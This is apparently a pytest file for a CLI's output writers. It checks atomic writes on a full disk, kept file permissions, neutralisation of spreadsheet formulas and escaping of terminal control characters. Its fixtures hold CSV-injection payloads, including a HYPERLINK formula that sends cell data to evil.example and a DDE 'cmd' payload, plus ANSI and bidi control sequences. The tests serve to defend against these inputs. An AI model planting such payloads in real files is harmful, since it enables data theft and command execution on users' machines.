"""Output files: atomic on a full disk, no live spreadsheet formulas, no raw control characters.

Covers :mod:`features.outputs` and every writer that uses it: ``engage score --out`` (CSV, Excel,
HTML), ``engage features --out``, ``--rejects`` and ``--metrics-out``.
"""

from __future__ import annotations

import builtins
import csv
import errno
import gzip
import io
import json
import os
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from engage.cli import EXIT_BAD_INPUT, main
from features.outputs import (
    OutputError,
    atomic_output,
    console_text,
    is_formula_like,
    neutralise_formulas,
    write_text,
)
from tests.serving_fixtures import ServingModel, shortlist

# Handles an attacker (or a careless export) could put in a profiles table.
FORMULA_HANDLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',  # data exfiltration formula
    "+cmd|' /C calc'!A0",  # DDE
    "-2+3",  # arithmetic, evaluated to 1
    "@SUM(1,1)",  # Lotus-style function
]


CONTROL_HANDLES = ["\x1b[31mred\x1b[0m", "be\u202eepyks", "bell\x07ring"]


@pytest.fixture(scope="session")
def hostile(served: ServingModel, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A shortlist whose handles and categories are formulas or hold terminal control characters."""
    profiles, posts = shortlist(served.data)
    names = FORMULA_HANDLES + CONTROL_HANDLES
    renamed = dict(zip(profiles["influencer"].head(len(names)), names, strict=True))
    profiles["influencer"] = profiles["influencer"].replace(renamed)
    posts["influencer"] = posts["influencer"].replace(renamed)
    profiles.loc[0, "category"] = "=cmd()"
    profiles.loc[1, "category"] = "\x1b]0;title\x07"
    # A post of an influencer without a profile: set aside, so it reaches --rejects.
    orphan = posts.iloc[0].to_dict() | {"influencer": "=ORPHAN()", "post_id": "@orphan"}
    posts = pd.concat([posts, pd.DataFrame([orphan])], ignore_index=True)
    folder = tmp_path_factory.mktemp("hostile")
    profiles.to_csv(folder / "profiles.csv", index=False)
    posts.to_csv(folder / "posts.csv", index=False)
    return folder / "profiles.csv", folder / "posts.csv"


def score(served: ServingModel, files: tuple[Path, Path], out: Path, *extra: str) -> int:
    return main(
        [
            "score",
            "--model",
            str(served.model_dir),
            "--profiles",
            str(files[0]),
            "--posts",
            str(files[1]),
            "--out",
            str(out),
            *extra,
        ]
    )


def csv_cells(path: Path) -> list[list[str]]:
    opener = gzip.open if path.name.endswith(".gz") else open
    with opener(path, "rt", newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_no_live_formula(cells: list[list[str]]) -> None:
    live = [cell for row in cells for cell in row if is_formula_like(cell)]
    assert not live, f"cells a spreadsheet would run: {live[:5]}"


# --------------------------------------------------------------------------- neutralise_formulas


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),  # formula
        ("+41 22 000", "'+41 22 000"),  # starts with + but is no number
        ("-2+3", "'-2+3"),  # arithmetic
        ("@SUM(A1)", "'@SUM(A1)"),  # function
        ("\tx", "'\tx"),  # tab (OWASP)
        ("\r=1", "'\r=1"),  # carriage return (OWASP)
        ("-5", "-5"),  # a negative number is no formula
        ("+1.5e3", "+1.5e3"),  # nor is a signed number in exponent form
        ("anna=1", "anna=1"),  # = inside is harmless
        ("'=1", "'=1"),  # already quoted
        ("", ""),  # empty text
    ],
)
def test_neutralise_formulas_prefixes_only_formula_like_text(cell, written):
    frame = pd.DataFrame({"name": [cell, "plain"]})
    assert neutralise_formulas(frame)["name"].tolist() == [written, "plain"]


def test_neutralise_formulas_leaves_numbers_times_and_the_input_alone():
    frame = pd.DataFrame(
        {
            "followers": [-1.5, 2.0],  # negative numbers stay numbers
            "count": pd.array([-3, None], dtype="Int64"),
            "at": pd.to_datetime(["2020-01-01", "2020-01-02"], utc=True),
            "category": pd.Categorical(["=evil", "food"]),
            "mixed": pd.Series([-7.0, "=x"], dtype=object),  # a number inside a text column
            "=header": ["a", None],
        }
    )
    before = frame.copy()
    out = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is unchanged
    for col in ("followers", "count", "at"):
        pd.testing.assert_series_equal(out[col], frame[col])
    assert out["category"].tolist() == ["'=evil", "food"]
    assert out["mixed"].tolist() == [-7.0, "'=x"]
    assert list(out.columns)[-1] == "'=header" and out["'=header"].isna().tolist() == [False, True]


# --------------------------------------------------------------------------- console_text


@pytest.mark.parametrize(
    "text, shown",
    [
        ("\x1b[31mred", "\\x1b[31mred"),  # ANSI colour / cursor control
        ("a\rb", "a\\x0db"),  # carriage return would overwrite the line
        ("bell\x07", "bell\\x07"),  # BEL
        ("be\u202eepyks", "be\\u202eepyks"),  # right-to-left override reorders the line
        ("x\u2066y", "x\\u2066y"),  # bidi isolate
        ("line\u2028two", "line\\u2028two"),  # Unicode line separator
        (
            "café 😀 👩\u200d💻",
            "café 😀 👩\u200d💻",
        ),  # accents, emoji and joiners print as they are
        ("two\nlines", "two\\x0alines"),  # a newline in a handle is escaped too
    ],
)
def test_console_text_escapes_control_characters(text, shown):
    assert console_text(text) == shown


def test_console_text_keeps_newlines_of_messages_when_asked():
    assert console_text("one\ntwo\x1b", keep_newlines=True) == "one\ntwo\\x1b"


# --------------------------------------------------------------------------- atomic_output


class FullDisk:
    """Files opened for writing under ``folder`` take ``budget`` bytes, then raise ENOSPC."""

    def __init__(self, folder: Path, budget: int) -> None:
        self.folder = folder.resolve()
        self.budget = budget
        self.real_open = builtins.open
        self.hits = 0

    def open(self, file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        handle = self.real_open(file, mode, *args, **kwargs)
        writing = any(flag in mode for flag in "wax+")
        if (
            writing
            and isinstance(file, str | os.PathLike)
            and Path(file).resolve().is_relative_to(self.folder)
        ):
            self.hits += 1
            return _LimitedFile(handle, self)
        return handle


class _LimitedFile:
    def __init__(self, handle: Any, disk: FullDisk) -> None:
        self._handle = handle
        self._disk = disk

    def write(self, data: Any) -> int:
        if len(data) > self._disk.budget:
            self._handle.write(data[: self._disk.budget])  # the part that fitted
            self._disk.budget = 0
            raise OSError(errno.ENOSPC, "No space left on device")
        self._disk.budget -= len(data)
        return self._handle.write(data)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._handle, name)

    def __enter__(self) -> _LimitedFile:
        return self

    def __exit__(self, *exc: object) -> None:
        self._handle.close()

    def __iter__(self) -> Any:
        return iter(self._handle)


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> FullDisk:
    """The folder ``tmp_path / 'out'`` fills up after 2 kB (pandas, gzip, zipfile and pathlib all
    open files with builtins.open / io.open)."""
    (tmp_path / "out").mkdir()
    disk = FullDisk(tmp_path / "out", budget=2048)
    monkeypatch.setattr(builtins, "open", disk.open)
    monkeypatch.setattr(io, "open", disk.open)
    return disk


def test_atomic_output_replaces_the_file_only_when_the_write_succeeded(tmp_path):
    target = tmp_path / "deep" / "table.csv"
    write_text(target, "good\n")
    assert target.read_text() == "good\n"
    with pytest.raises(RuntimeError), atomic_output(target) as temp:
        temp.write_text("half")
        raise RuntimeError("the writer failed")
    assert target.read_text() == "good\n"
    assert sorted(p.name for p in target.parent.iterdir()) == [
        "table.csv"
    ]  # no temporary file left
    assert oct(target.stat().st_mode & 0o777) == oct(
        0o666 & ~_umask()
    )  # usual permissions, not 0600


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_replacing_a_file_keeps_its_permissions(tmp_path):
    """A private output (0600) is not widened to the usual 0644 when a new run replaces it."""
    target = tmp_path / "scores.csv"
    write_text(target, "old\n")
    target.chmod(0o600)
    write_text(target, "new\n")
    assert target.read_text() == "new\n" and target.stat().st_mode & 0o777 == 0o600


def test_a_read_only_output_is_refused_and_kept_even_for_root(served, tmp_path, capsys):
    """Checked on the mode bits (root's os.access says yes to everything): exit 2 before any
    work, and the file is as it was."""
    target = tmp_path / "ranked.csv"
    target.write_text("kept")
    target.chmod(0o444)
    with pytest.raises(
        OutputError, match=r"ranked\.csv: the existing file is read-only.*chmod u\+w"
    ):
        write_text(target, "replaced")
    code = score(served, (served.data.profiles_path, served.data.posts_path), target, "--top", "0")
    err = capsys.readouterr().err
    assert code == EXIT_BAD_INPUT and "--out cannot write" in err and "read-only" in err
    assert target.read_text() == "kept" and [p.name for p in tmp_path.iterdir()] == ["ranked.csv"]


def test_atomic_output_on_a_full_disk_keeps_the_previous_file(full_disk, tmp_path):
    target = tmp_path / "out" / "big.txt"
    target.write_text("previous")
    with pytest.raises(
        OutputError,
        match=r"big.txt: no space left on the device .*the previous big.txt is unchanged",
    ):
        write_text(target, "x" * 10_000)
    assert full_disk.hits == 2  # the failed write was really cut short
    assert target.read_text() == "previous"
    assert [p.name for p in target.parent.iterdir()] == ["big.txt"]


@pytest.mark.parametrize("name", ["ranked.csv", "ranked.csv.gz", "ranked.xlsx", "report.html"])
def test_score_on_a_full_disk_exits_2_and_keeps_the_previous_output(
    served, full_disk, tmp_path, capsys, name
):
    files = (served.data.profiles_path, served.data.posts_path)
    out = tmp_path / "out" / name
    out.write_bytes(
        b"the previous good output"
    )  # the model and data are read from elsewhere, unhindered
    code = score(served, files, out, "--top", "0")
    err = capsys.readouterr().err
    assert code == EXIT_BAD_INPUT
    assert f"cannot write {out}: no space left on the device" in err and "Traceback" not in err
    assert out.read_bytes() == b"the previous good output"
    assert [p.name for p in out.parent.iterdir()] == [name]


def test_features_rejects_and_metrics_on_a_full_disk_exit_2_and_leave_nothing_half_written(
    served, full_disk, tmp_path, capsys
):
    files = ["--profiles", str(served.data.profiles_path), "--posts", str(served.data.posts_path)]
    out = tmp_path / "out"
    assert main(["features", *files, "--out", str(out / "features.csv")]) == EXIT_BAD_INPUT
    assert "cannot write" in capsys.readouterr().err and not list(out.iterdir())

    from engage.model_commands import _write_json

    full_disk.budget = 1000  # the disk had room for the previous file
    (out / "metrics.json").write_text('{"previous": true}')
    with pytest.raises(OutputError, match="no space left"):
        _write_json({"mae": list(range(5000))}, out / "metrics.json")
    assert json.loads((out / "metrics.json").read_text()) == {"previous": True}


def test_rejects_on_a_full_disk_exit_2(hostile, full_disk, tmp_path, capsys):
    rejects = tmp_path / "out" / "rejects.csv"
    full_disk.budget = 10
    assert (
        main(
            [
                "validate",
                "--profiles",
                str(hostile[0]),
                "--posts",
                str(hostile[1]),
                "--rejects",
                str(rejects),
            ]
        )
        == EXIT_BAD_INPUT
    )
    assert "cannot write" in capsys.readouterr().err and not rejects.exists()


def test_an_output_path_under_a_file_exits_2(served, tmp_path, capsys):
    (tmp_path / "file.txt").write_text("x")
    out = tmp_path / "file.txt" / "ranked.csv"
    assert (
        score(served, (served.data.profiles_path, served.data.posts_path), out, "--top", "0")
        == EXIT_BAD_INPUT
    )
    err = capsys.readouterr().err
    # Told before any work (engage.cli.check_output_file), not only when the writer fails.
    assert "file.txt is a file, not a folder" in err and "Traceback" not in err


# ---------------------------------------------------------------------------
# formulas in real outputs


def test_score_csv_and_excel_carry_no_live_formula(served, hostile, tmp_path):
    fees = pd.DataFrame(
        {
            "influencer": [*FORMULA_HANDLES, "=GHOST()"],
            "fee": ["100", "200", "300", "400", "500"],
            "currency": "=eur",
        }
    )
    fees.to_csv(tmp_path / "fees.csv", index=False)
    for name in ("ranked.csv", "ranked.csv.gz"):
        assert score(served, hostile, tmp_path / name, "--top", "0") == 0
        cells = csv_cells(tmp_path / name)
        assert_no_live_formula(cells)
        written = {row[cells[0].index("influencer")] for row in cells[1:]}
        assert {"'" + h for h in FORMULA_HANDLES} <= written
    # Fees: handles, a shortlist name without a profile and the currency all reach the file.
    assert (
        score(
            served,
            hostile,
            tmp_path / "fees.csv.out.csv",
            "--fees",
            str(tmp_path / "fees.csv"),
            "--top",
            "0",
        )
        == 0
    )
    cells = csv_cells(tmp_path / "fees.csv.out.csv")
    assert_no_live_formula(cells)
    table = pd.read_csv(tmp_path / "fees.csv.out.csv", keep_default_na=False)
    assert "'=GHOST()" in set(table["influencer"]) and set(table["currency"]) == {"'=EUR"}
    assert (pd.to_numeric(table["fee"]) > 0).all()  # numbers stay numbers

    assert (
        score(
            served,
            hostile,
            tmp_path / "ranked.xlsx",
            "--fees",
            str(tmp_path / "fees.csv"),
            "--top",
            "0",
        )
        == 0
    )
    book = openpyxl.load_workbook(tmp_path / "ranked.xlsx")
    formulas = [
        c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    texts = [
        c.value
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert not [t for t in texts if is_formula_like(t)]
    assert "'=GHOST()" in texts and "'=EUR" in texts
    numbers = [c.value for c in next(iter(book["ranking"].iter_cols(min_row=2, max_col=1)))]
    assert all(
        isinstance(v, int | float) or v is None for v in numbers
    )  # rank column still numeric

    # Without fees every candidate is listed: control characters XML cannot hold are escaped.
    assert score(served, hostile, tmp_path / "all.xlsx", "--top", "0") == 0
    handles = pd.read_excel(tmp_path / "all.xlsx", sheet_name="ranking")[
        "Influencer"
    ].tolist()  # plain header names
    assert "\\x1b[31mred\\x1b[0m" in handles and "be\u202eepyks" in handles


def test_python_api_keeps_the_values_as_they_came(served, hostile):
    from features.contract import read_table
    from serving import load_model

    scored = load_model(served.model_dir).score(
        read_table(hostile[0]), read_table(hostile[1]), pd.Timestamp("2019-06-01", tz="UTC")
    )
    assert set(FORMULA_HANDLES + CONTROL_HANDLES) <= set(scored.table["influencer"])


def test_features_and_rejects_csv_carry_no_live_formula(hostile, tmp_path):
    files = ["--profiles", str(hostile[0]), "--posts", str(hostile[1])]
    assert (
        main(
            [
                "features",
                *files,
                "--out",
                str(tmp_path / "features.csv"),
                "--rejects",
                str(tmp_path / "rejects.csv"),
            ]
        )
        == 0
    )
    features = csv_cells(tmp_path / "features.csv")
    assert_no_live_formula(features)
    assert "'=cmd()" in {row[features[0].index("category")] for row in features[1:]}
    rejects = csv_cells(tmp_path / "rejects.csv")
    assert_no_live_formula(rejects)
    assert "'=ORPHAN()" in {cell for row in rejects for cell in row}
    # Parquet is typed data for programs, not a spreadsheet: values as they are.
    assert main(["features", *files, "--out", str(tmp_path / "features.parquet")]) == 0
    assert set(FORMULA_HANDLES) <= set(pd.read_parquet(tmp_path / "features.parquet")["influencer"])


def test_console_shows_control_characters_escaped(served, hostile, tmp_path, capsys):
    assert score(served, hostile, tmp_path / "ranked.csv", "--top", "50") == 0
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert "\x1b" not in stream and "\u202e" not in stream and "\x07" not in stream
    assert "\\x1b[31mred\\x1b[0m" in captured.out and "be\\u202eepyks" in captured.out
